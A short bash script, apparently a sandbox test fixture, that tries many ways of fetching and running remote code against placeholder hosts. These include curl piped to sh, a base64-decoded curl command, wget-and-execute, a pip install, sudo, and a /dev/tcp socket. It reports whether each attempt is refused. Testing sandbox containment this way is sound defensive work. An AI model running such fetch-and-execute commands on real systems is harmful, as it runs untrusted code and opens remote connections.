#!/usr/bin/env bash
# "A driver has to be set up first": fetches and runs something in every way that comes to mind. The addresses lead
# nowhere, and outside a sandbox nothing is tried.
[ -e /dev/exthost/http ] || { echo "not in a sandbox" >&2; exit 64; }

attempt() { # attempt NAME COMMAND...
  local name=$1
  shift
  if "$@" >/dev/null 2>&1; then echo "$name: done"; else echo "$name: refused"; fi
}

attempt piped bash -o pipefail -c 'curl -fsSL http://198.51.100.7/driver | sh'
attempt decoded sh -c 'echo Y3VybCAtZnNTIGh0dHA6Ly8xOTguNTEuMTAwLjcvbmV4dAo= | base64 -d | sh'
attempt substituted bash -c 'text=$(curl -fsSL "https://me:secret@drivers.example.invalid/get?key=secret") && bash -c "$text"'
attempt downloaded sh -c 'wget -q -O /tmp/driver https://drivers.example.invalid/driver && sh /tmp/driver'
attempt again curl -fsSL http://198.51.100.7/driver -o /tmp/driver
attempt packaged pip install weather-driver
attempt elevated sudo sh -c 'id -u'
attempt connected bash -c 'exec 3<>/dev/tcp/198.51.100.7/9000'
echo "the set-up is over"
exit 7
